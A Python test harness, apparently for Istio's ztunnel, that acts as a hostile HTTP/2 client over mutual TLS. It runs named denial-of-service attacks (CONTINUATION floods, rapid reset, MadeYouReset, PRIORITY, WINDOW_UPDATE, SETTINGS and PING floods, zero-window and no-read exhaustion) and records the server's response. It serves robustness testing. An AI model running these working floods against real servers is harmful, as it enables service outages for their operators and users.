#!/usr/bin/python3
"""A hostile HBONE client built on python3-h2's framing layer (hyperframe, hpack; Debian's).

Opens one mutual-TLS connection (ALPN h2) to --server with the certificate in --certs (Istio's
layout: cert-chain.pem, key.pem, root-cert.pem) and runs one ATTACK, writing raw frames so it can
break the rules a well-behaved stack enforces on itself. Meanwhile it reads (unless the attack is
about not reading) and records what the server did. Prints one JSON object to stdout:
  {"attack", "sent": frames sent, "goaway": {"code", "last_stream", "debug"} or null,
   "resets": {code: count}, "statuses": {status: count}, "closed": bool (the server closed the
   socket), "seconds": how long until the server ended it (or the attack's time ran out),
   "inner": first bytes of DATA received (for tunnel attacks)}
Attacks (--count and --seconds bound every loop; nothing runs longer than --seconds):
  continuation        HEADERS (CONNECT) without END_HEADERS, then CONTINUATION frames of
                      --size bytes of header fields, never END_HEADERS
  empty-continuation  the same with empty CONTINUATION frames (no bytes ever accumulate)
  big-headers         one CONNECT whose header block is --size bytes (HEADERS + CONTINUATION)
  rst-flood           HEADERS (CONNECT --authority) + RST_STREAM(CANCEL), --count times
  window-update-zero  open a tunnel per stream, then WINDOW_UPDATE(0) on it (the server must reset
                      the stream: "MadeYouReset"), --count streams
  empty-data          one tunnel, then --count empty DATA frames without END_STREAM
  settings-flood      --count SETTINGS frames, never reading (ACKs pile up at the server)
  ping-flood          --count PING frames, never reading
  priority-flood      one tunnel, then --count PRIORITY frames (on idle streams), reading
  window-update-flood one tunnel, then --count WINDOW_UPDATE(1) frames on the connection, reading
  headers             one stream whose header block is exactly the --header NAME=VALUE fields
                      (pseudo-headers too, in order); reports the answer
  headers-with-data   a tunnel to --authority (answered), then a stream whose header block is the --header
                      fields with a DATA frame right behind it, then another tunnel: a malformed request
                      is a stream error (RFC 9113 §8.1.1), its DATA must not end the connection (§5.1)
  inner-rst-flood     a tunnel to --authority (an HTTP/2 port), inside it h2c: GET + RST_STREAM,
                      --count times; "nested" reports the inner connection's GOAWAY/resets/statuses
  inner-big-headers   the same, one inner request with a --size header block, then a normal one
  inner-many-streams  the same, --count inner streams opened at once and never ended
  inner-priority-flood, inner-window-update-flood
                      the same, one inner request, then --count inner PRIORITY (idle streams) or
                      WINDOW_UPDATE(1) frames, 50 to a DATA frame
  no-read             the largest windows, up to 100 tunnels each asking --request, then never
                      read again for --seconds
  refused-upload      a tunnel whose inner HTTP/1.1 request the server refuses (a header line without a
                      colon: 400, the tunnel ended), then the client's upload still in flight on it: --count
                      DATA frames of 16 KiB; then a new tunnel on the same connection (RFC 9113 §5.1: frames
                      on a stream the server reset are ignored, they must not end the connection)
  over-limit-data     --count tunnels (the server's SETTINGS_MAX_CONCURRENT_STREAMS), then one more CONNECT with its
                      first bytes right behind it: refused (RST_STREAM REFUSED_STREAM), and its DATA must not end
                      the connection (RFC 9113 §5.1)
  window-zero         SETTINGS_INITIAL_WINDOW_SIZE=0, --count tunnels (at most 100) each asking --request, never a
                      WINDOW_UPDATE: the response cannot move; holds the connection --seconds
Exit status 0 when the attack ran (whatever the server did), 2 on usage errors, 1 when the TLS
connection could not be made.
"""
import argparse
import json
import os
import select
import socket
import ssl
import sys
import time

import hpack
import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Nested:
    """The frames of an HTTP/2 connection nested in stream 1's DATA (an inner h2c), as the server sends them."""

    def __init__(self):
        self.buf = b""
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 30
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.settings_seen = False
        self.fed = 0
        self.reset_streams = set()

    def feed(self, data):
        self.buf += data
        self.fed += len(data)
        while len(self.buf) >= 9:
            f, length = hf.Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(f, hf.SettingsFrame):
                self.settings_seen = True
            elif isinstance(f, hf.GoAwayFrame):
                self.goaway = {"code": f.error_code, "last_stream": f.last_stream_id,
                               "debug": f.additional_data.decode("utf-8", "replace")}
            elif isinstance(f, hf.RstStreamFrame):
                self.resets[str(f.error_code)] = self.resets.get(str(f.error_code), 0) + 1
                self.reset_streams.add(f.stream_id)
            elif isinstance(f, hf.HeadersFrame):
                try:
                    for k, v in self.dec.decode(f.data):
                        if k in (b":status", ":status"):
                            st = v.decode() if isinstance(v, bytes) else v
                            self.statuses[st] = self.statuses.get(st, 0) + 1
                except Exception:  # noqa: BLE001
                    self.statuses["undecodable"] = self.statuses.get("undecodable", 0) + 1

    def report(self):
        return {"goaway": self.goaway, "resets": self.resets, "statuses": self.statuses, "bytes": self.fed}


class Peer:
    def __init__(self, args):
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.load_cert_chain(os.path.join(args.certs, "cert-chain.pem"), os.path.join(args.certs, "key.pem"))
        ctx.load_verify_locations(os.path.join(args.certs, "root-cert.pem"))
        ctx.check_hostname = False
        ctx.set_alpn_protocols(["h2"])
        host, port = args.server.rsplit(":", 1)
        raw = socket.create_connection((host, int(port)), timeout=10)
        self.sock = ctx.wrap_socket(raw)
        self.sock.setblocking(False)
        self.buf = b""
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 30
        self.sent = 0
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.closed = False
        self.inner = b""
        self.out = b""
        self.nested = None
        self.reset_streams = set()

    def frame(self, f):
        self.out += f.serialize()
        self.sent += 1

    def raw(self, b):
        self.out += b

    def flush(self, block=True, deadline=None):
        """Writes what is queued; with block=False returns once the socket would block."""
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out[:1 << 16])
                self.out = self.out[n:]
            except (ssl.SSLWantWriteError, BlockingIOError):
                if not block or (deadline and time.time() > deadline):
                    return False
                self.pump(0.05)
            except (ConnectionError, OSError):
                self.closed = True
        return not self.out

    def pump(self, timeout):
        """Reads and records frames for up to timeout seconds."""
        end = time.time() + timeout
        while not self.closed:
            left = end - time.time()
            if left < 0:
                return
            r, _, _ = select.select([self.sock], [], [], left) if self.sock.pending() == 0 else ([self.sock], [], [])
            if not r:
                return
            try:
                data = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (ConnectionError, OSError, ssl.SSLError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            f, length = hf.Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(f, hf.SettingsFrame) and "ACK" not in f.flags:
                self.frame(hf.SettingsFrame(0, flags=["ACK"]))
            elif isinstance(f, hf.GoAwayFrame):
                self.goaway = {"code": f.error_code, "last_stream": f.last_stream_id,
                               "debug": f.additional_data.decode("utf-8", "replace")}
            elif isinstance(f, hf.RstStreamFrame):
                self.resets[str(f.error_code)] = self.resets.get(str(f.error_code), 0) + 1
                self.reset_streams.add(f.stream_id)
            elif isinstance(f, hf.HeadersFrame):
                try:
                    for k, v in self.dec.decode(f.data):
                        if k in (b":status", ":status"):
                            s = v.decode() if isinstance(v, bytes) else v
                            self.statuses[s] = self.statuses.get(s, 0) + 1
                except Exception as e:  # noqa: BLE001 (a CONTINUATION-split block: not ours to test)
                    self.statuses["undecodable"] = self.statuses.get("undecodable", 0) + 1
            elif isinstance(f, hf.DataFrame):
                if len(self.inner) < 256:
                    self.inner += f.data[:256 - len(self.inner)]
                if self.nested is not None and f.stream_id == 1:
                    self.nested.feed(f.data)
                    if f.flow_controlled_length:
                        self.frame(hf.WindowUpdateFrame(0, window_increment=f.flow_controlled_length))
                        self.frame(hf.WindowUpdateFrame(1, window_increment=f.flow_controlled_length))

    def start(self, settings=None):
        self.raw(PREFACE)
        self.frame(hf.SettingsFrame(0, settings=settings or {}))
        self.flush()

    def connect_headers(self, authority, extra=()):
        return self.enc.encode([(":method", "CONNECT"), (":authority", authority)] + list(extra))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", required=True)
    ap.add_argument("--certs", required=True)
    ap.add_argument("--authority", default="127.39.0.1:80")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--size", type=int, default=16384)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--request", default="GET /bytes/1073741824 HTTP/1.1\r\nHost: web\r\n\r\n")
    ap.add_argument("--header", action="append", default=[], help="NAME=VALUE, in order (attack headers)")
    ap.add_argument("attack")
    args = ap.parse_args()
    try:
        p = Peer(args)
    except (OSError, ssl.SSLError) as e:
        print(json.dumps({"attack": args.attack, "error": str(e)}), flush=True)
        return 1
    t0 = time.time()
    deadline = t0 + args.seconds
    a = args.attack
    if a == "window-zero":
        p.start({hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    elif a == "no-read":
        p.start({hf.SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
    else:
        p.start()
    p.pump(0.2)
    if a in ("continuation", "empty-continuation"):
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority)))  # no END_HEADERS
        field = p.enc.encode([("x-pad", "p" * max(1, args.size - 16))]) if a == "continuation" else b""
        i = 0
        while i < args.count and time.time() < deadline and not p.closed:
            p.frame(hf.ContinuationFrame(1, data=field))
            i += 1
            if i % 64 == 0:
                p.flush(deadline=deadline)
                p.pump(0)
        p.flush(deadline=deadline)
    elif a == "big-headers":
        block = p.connect_headers(args.authority, [("x-big-%d" % i, "b" * 1000) for i in range(args.size // 1010)])
        chunk = 16384
        first, rest = block[:chunk], block[chunk:]
        p.frame(hf.HeadersFrame(1, data=first, flags=["END_HEADERS"] if not rest else []))
        while rest:
            part, rest = rest[:chunk], rest[chunk:]
            p.frame(hf.ContinuationFrame(1, data=part, flags=["END_HEADERS"] if not rest else []))
        p.flush(deadline=deadline)
    elif a == "rst-flood":
        sid = 1
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            p.frame(hf.HeadersFrame(sid, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
            p.frame(hf.RstStreamFrame(sid, error_code=8))
            sid += 2
            if i % 32 == 0:
                p.flush(deadline=deadline)
                p.pump(0)
        p.flush(deadline=deadline)
    elif a == "window-update-zero":
        sid = 1
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            p.frame(hf.HeadersFrame(sid, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
            p.frame(hf.WindowUpdateFrame(sid, window_increment=0))
            sid += 2
            if i % 32 == 0:
                p.flush(deadline=deadline)
                p.pump(0)
        p.flush(deadline=deadline)
    elif a == "empty-data":
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        p.pump(1)
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            p.frame(hf.DataFrame(1, data=b""))
            if i % 32 == 0:
                p.flush(deadline=deadline)
                p.pump(0)
        p.flush(deadline=deadline)
    elif a in ("priority-flood", "window-update-flood"):
        # frames that cost the sender nothing and that no flow control bounds (CVE-2019-9513 and kin)
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        p.pump(0.5)
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            if a == "priority-flood":
                p.frame(hf.PriorityFrame(101 + 2 * (i % 1000), depends_on=0, stream_weight=15))
            else:
                p.frame(hf.WindowUpdateFrame(0, window_increment=1))
            if i % 50 == 49:
                # read between bursts: a GOAWAY is seen before more bytes make the server's close a reset
                p.flush(deadline=deadline)
                p.pump(0.05)
        p.flush(deadline=deadline)
    elif a in ("settings-flood", "ping-flood"):
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            if a == "settings-flood":
                p.frame(hf.SettingsFrame(0, settings={hf.SettingsFrame.HEADER_TABLE_SIZE: 4096}))
            else:
                p.frame(hf.PingFrame(0, opaque_data=i.to_bytes(8, "big")))
            if not p.flush(block=False):
                break  # the server stopped reading from us: fine, it is protecting itself
        # never read: the acknowledgements pile up in the server unless it bounds them
        while time.time() < deadline and not p.closed:
            if not p.flush(block=False):
                time.sleep(0.1)
            else:
                time.sleep(0.1)
                try:
                    if p.sock.recv(1, socket.MSG_PEEK) == b"":
                        p.closed = True
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
                except (OSError, ssl.SSLError, ValueError):
                    p.closed = True
        p.pump(0.5)
    elif a == "headers":
        # one stream with exactly the --header fields given (pseudo-headers included), END_HEADERS
        fields = [tuple(h.split("=", 1)) for h in args.header]
        p.frame(hf.HeadersFrame(1, data=p.enc.encode(fields), flags=["END_HEADERS"]))
        p.flush()
        end = time.time() + min(args.seconds, 3)
        while time.time() < end and not p.closed and not p.statuses and not p.resets:
            p.pump(0.1)
        deadline = time.time()
    elif a == "headers-with-data":
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        end = time.time() + 3
        while time.time() < end and not p.closed and not p.statuses:
            p.pump(0.1)
        fields = [tuple(h.split("=", 1)) for h in args.header]
        p.frame(hf.HeadersFrame(3, data=p.enc.encode(fields), flags=["END_HEADERS"]))
        p.frame(hf.DataFrame(3, data=b"GET / HTTP/1.1\r\nHost: web\r\n\r\n"))
        p.flush()
        p.pump(0.5)
        p.frame(hf.HeadersFrame(5, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        end = time.time() + 3
        while time.time() < end and not p.closed and p.statuses.get("200", 0) < 2:
            p.pump(0.1)
        p.pump(0.3)
        deadline = time.time()
    elif a.startswith("inner-"):
        # a tunnel to an HTTP/2 port, and inside it an h2c connection (prior knowledge) that misbehaves
        p.nested = Nested()
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        p.pump(1)
        enc = hpack.Encoder()
        inner = [PREFACE, hf.SettingsFrame(0).serialize()]
        get = [(":method", "GET"), (":scheme", "http"), (":path", "/ok"), (":authority", "web")]

        def send_inner(chunks):
            data = b"".join(chunks)
            while data:
                if 1 in p.reset_streams:
                    return  # the server ended the tunnel: a well-behaved peer stops there
                part, data = data[:16384], data[16384:]
                p.frame(hf.DataFrame(1, data=part))
            p.flush(deadline=deadline)
            p.pump(0)

        send_inner(inner)
        if a == "inner-rst-flood":
            # 64 request+reset pairs per DATA frame, as a source ztunnel coalesces what the app writes
            sid = 1
            for i in range(0, args.count, 64):
                if time.time() > deadline or p.closed or p.nested.goaway or 1 in p.reset_streams:
                    break
                pairs = []
                for _ in range(min(64, args.count - i)):
                    pairs.append(hf.HeadersFrame(sid, data=enc.encode(get), flags=["END_HEADERS", "END_STREAM"]).serialize())
                    pairs.append(hf.RstStreamFrame(sid, error_code=8).serialize())
                    sid += 2
                send_inner(pairs)
        elif a == "inner-big-headers":
            fields = get + [("x-big-%d" % i, "b" * 1000) for i in range(args.size // 1010)]
            block = enc.encode(fields)
            frames = []
            first, rest = block[:16384], block[16384:]
            frames.append(hf.HeadersFrame(1, data=first, flags=["END_STREAM"] + ([] if rest else ["END_HEADERS"])).serialize())
            while rest:
                part, rest = rest[:16384], rest[16384:]
                frames.append(hf.ContinuationFrame(1, data=part, flags=[] if rest else ["END_HEADERS"]).serialize())
            send_inner(frames)
            # then a well-behaved request on the same inner connection, if it is still there
            send_inner([hf.HeadersFrame(3, data=enc.encode(get), flags=["END_HEADERS", "END_STREAM"]).serialize()])
        elif a in ("inner-priority-flood", "inner-window-update-flood"):
            send_inner([hf.HeadersFrame(1, data=enc.encode(get), flags=["END_HEADERS", "END_STREAM"]).serialize()])
            answered = min(deadline, time.time() + 2)
            while time.time() < answered and not p.nested.statuses and not p.closed:
                p.pump(0.05)  # the inner request answered first: the connection worked before the flood
            for i in range(0, args.count, 50):
                if time.time() > deadline or p.closed or p.nested.goaway or 1 in p.reset_streams:
                    break
                if a == "inner-priority-flood":
                    burst = [hf.PriorityFrame(101 + 2 * (j % 1000), depends_on=0, stream_weight=15).serialize()
                             for j in range(i, min(i + 50, args.count))]
                else:
                    burst = [hf.WindowUpdateFrame(0, window_increment=1).serialize()
                             for _ in range(i, min(i + 50, args.count))]
                send_inner(burst)
        elif a == "inner-many-streams":
            # --count streams opened at once, none ended: beyond SETTINGS_MAX_CONCURRENT_STREAMS they are refused
            frames = []
            for i in range(min(args.count, 5000)):
                frames.append(hf.HeadersFrame(2 * i + 1, data=enc.encode([(":method", "POST")] + get[1:]),
                                              flags=["END_HEADERS"]).serialize())
            send_inner(frames)
        end = min(deadline, time.time() + 3)
        while time.time() < end and not p.closed:
            p.flush(block=False)
            p.pump(0.1)
        deadline = time.time()
    elif a == "no-read":
        # the largest windows a client may grant, then --count tunnels each asking --request, and
        # never another read: the responses pile up unless the server holds its upstreams back
        p.frame(hf.WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535))
        sid = 1
        for i in range(min(args.count, 100)):
            p.frame(hf.HeadersFrame(sid, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
            p.frame(hf.DataFrame(sid, data=args.request.encode().decode("unicode_escape").encode("latin-1")))
            sid += 2
        p.flush()
        while time.time() < deadline:
            time.sleep(0.2)
    elif a == "refused-upload":
        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.frame(hf.DataFrame(1, data=b"POST /upload HTTP/1.1\r\nHost: web\r\nContent-Length: 99999999\r\nbad header line\r\n\r\n"))
        p.flush()
        p.pump(1)  # the 400 and the end of the tunnel
        chunk = b"u" * 16384
        for i in range(args.count):
            if time.time() > deadline or p.closed:
                break
            p.frame(hf.DataFrame(1, data=chunk))
            if i % 16 == 0:
                p.flush(deadline=deadline)
                p.pump(0)
        p.flush(deadline=deadline)
        p.pump(1)
        p.frame(hf.HeadersFrame(3, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        end = min(deadline, time.time() + 3)
        while time.time() < end and not p.closed and p.statuses.get("200", 0) < 2:
            p.pump(0.1)
        deadline = time.time()
    elif a == "over-limit-data":
        for i in range(args.count):
            p.frame(hf.HeadersFrame(2 * i + 1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        end = min(deadline, time.time() + 3)
        while time.time() < end and not p.closed and p.statuses.get("200", 0) < args.count:
            p.pump(0.1)
        sid = 2 * args.count + 1
        p.frame(hf.HeadersFrame(sid, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.frame(hf.DataFrame(sid, data=args.request.encode().decode("unicode_escape").encode("latin-1")))
        p.flush()
        end = min(deadline, time.time() + 2)
        while time.time() < end and not p.closed:
            p.pump(0.1)
        deadline = time.time()
    elif a == "window-zero":
        n = max(1, min(args.count, 100))
        for sid in range(1, 2 * n, 2):
            p.frame(hf.HeadersFrame(sid, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
        p.flush()
        p.pump(1)
        for sid in range(1, 2 * n, 2):
            p.frame(hf.DataFrame(sid, data=args.request.encode().decode("unicode_escape").encode("latin-1")))
        p.flush()
        while time.time() < deadline and not p.closed:
            p.pump(0.5)
    else:
        print("unknown attack " + a, file=sys.stderr)
        return 2
    while time.time() < deadline and not p.closed:
        p.flush(block=False)
        p.pump(0.2)
    print(json.dumps({"attack": a, "sent": p.sent, "goaway": p.goaway, "resets": p.resets, "statuses": p.statuses,
                      "closed": p.closed, "seconds": round(time.time() - t0, 2),
                      "inner": p.inner.decode("latin-1"),
                      "nested": p.nested.report() if p.nested else None}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
